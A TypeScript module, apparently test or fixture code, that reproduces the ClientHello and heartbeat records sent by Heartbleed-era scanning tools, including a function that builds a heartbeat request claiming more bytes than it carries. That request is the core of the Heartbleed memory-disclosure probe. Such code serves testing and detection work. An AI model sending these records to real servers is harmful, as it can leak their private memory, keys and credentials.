/** Hellos and heartbeats as tools write them: fixed bytes, no randomness, whatever the server says. */

import { encodeClientHello } from "../../core/wire/client-hello.ts";
import {
  EXTENSION,
  type Extension,
  heartbeatExtension,
  serverNameExtension,
  supportedGroupsExtension,
} from "../../core/wire/extensions.ts";
import { encodeHandshake, HANDSHAKE } from "../../core/wire/handshake.ts";
import { CONTENT, encodeRecord } from "../../core/wire/record.ts";

export interface ToolHello {
  /** Of the record around it. */
  readonly record: number;
  readonly version: number;
  readonly suites: readonly number[];
  /** null: no extensions at all. */
  readonly extensions: readonly Extension[] | null;
}

const RANDOM_BYTES = 32;

/** A hello in one record. Its random is the same every time, as in most of these tools: nothing is ever encrypted with it. */
export function toolHello({ record, version, suites, extensions }: ToolHello): Uint8Array {
  const random = Uint8Array.from({ length: RANDOM_BYTES }, (_, index) => (index * 37 + 11) & 0xff);
  const hello = { version, random, sessionId: new Uint8Array(0), suites, compressions: [0], extensions };
  return encodeRecord(CONTENT.handshake, record, encodeHandshake(HANDSHAKE.clientHello, encodeClientHello(hello)));
}

/** The 51 suites, the signalling value included, that OpenSSL 1.0.0 and 1.0.1 offer below TLS 1.2: the list in Stafford's hello. */
export const STAFFORD_SUITES: readonly number[] = [
  0xc014, 0xc00a, 0xc022, 0xc021, 0x0039, 0x0038, 0x0088, 0x0087, 0xc00f, 0xc005, 0x0035, 0x0084, 0xc012, 0xc008,
  0xc01c, 0xc01b, 0x0016, 0x0013, 0xc00d, 0xc003, 0x000a, 0xc013, 0xc009, 0xc01f, 0xc01e, 0x0033, 0x0032, 0x009a,
  0x0099, 0x0045, 0x0044, 0xc00e, 0xc004, 0x002f, 0x0096, 0x0041, 0xc011, 0xc007, 0xc00c, 0xc002, 0x0005, 0x0004,
  0x0015, 0x0012, 0x0009, 0x0014, 0x0011, 0x0008, 0x0006, 0x0003, 0x00ff,
];

const ALL_CURVES = Array.from({ length: 25 }, (_, index) => index + 1);

/** Uncompressed and the two compressed forms, as OpenSSL lists them. */
const ALL_POINT_FORMATS: Extension = { type: EXTENSION.ecPointFormats, data: Uint8Array.of(3, 0, 1, 2) };

/** Point formats, 25 curves, an empty session ticket, heartbeats allowed; no server name, no signature algorithms. */
export const STAFFORD_EXTENSIONS: readonly Extension[] = [
  ALL_POINT_FORMATS,
  supportedGroupsExtension(ALL_CURVES),
  { type: EXTENSION.sessionTicket, data: new Uint8Array(0) },
  heartbeatExtension(1),
];

/** The same with a server name in front, where the tool sends one. */
export function withServerName(name: string | null, extensions: readonly Extension[]): readonly Extension[] {
  return name === null ? extensions : [serverNameExtension(name), ...extensions];
}

/** A request that claims so many bytes and carries `carried`: with none at all, the flaw's classical question. */
export function requestRecord(version: number, claimed: number, carried: Uint8Array = new Uint8Array(0)): Uint8Array {
  const body = Uint8Array.from([1, claimed >> 8, claimed & 0xff, ...carried]);
  return encodeRecord(CONTENT.heartbeat, version, body);
}
